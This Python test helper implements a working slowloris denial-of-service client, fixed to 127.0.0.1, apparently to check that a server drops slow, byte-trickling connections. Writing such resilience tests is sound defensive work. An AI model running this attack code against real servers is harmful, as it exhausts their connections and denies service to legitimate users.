"""A slowloris client, run as its own process so that its event loop does not slow the test's:
``python -m tests.servers.slowloris PORT COUNT``. COUNT connections to 127.0.0.1:PORT send a
request head one byte a second, each reopened once the server closes it. Prints
``ready OPENED`` once COUNT connections were opened, then runs until killed."""

from __future__ import annotations

import asyncio
import resource
import sys


async def attack(port: int, count: int) -> None:
    opened = 0
    ready = asyncio.Event()

    async def one() -> None:
        nonlocal opened
        while True:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(1.0)  # the attacker's pace
                continue
            opened += 1
            if opened >= count:
                ready.set()
            try:
                writer.write(b"GET /-/healthy HTTP/1.1\r\n")
                while not reader.at_eof():
                    try:
                        await asyncio.wait_for(reader.read(1), 1.0)  # b"" once the server closed
                    except TimeoutError:
                        writer.write(b"X")
            except OSError:
                pass
            finally:
                writer.close()

    tasks = [asyncio.create_task(one()) for _ in range(count)]
    await ready.wait()
    print(f"ready {opened}", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2])))
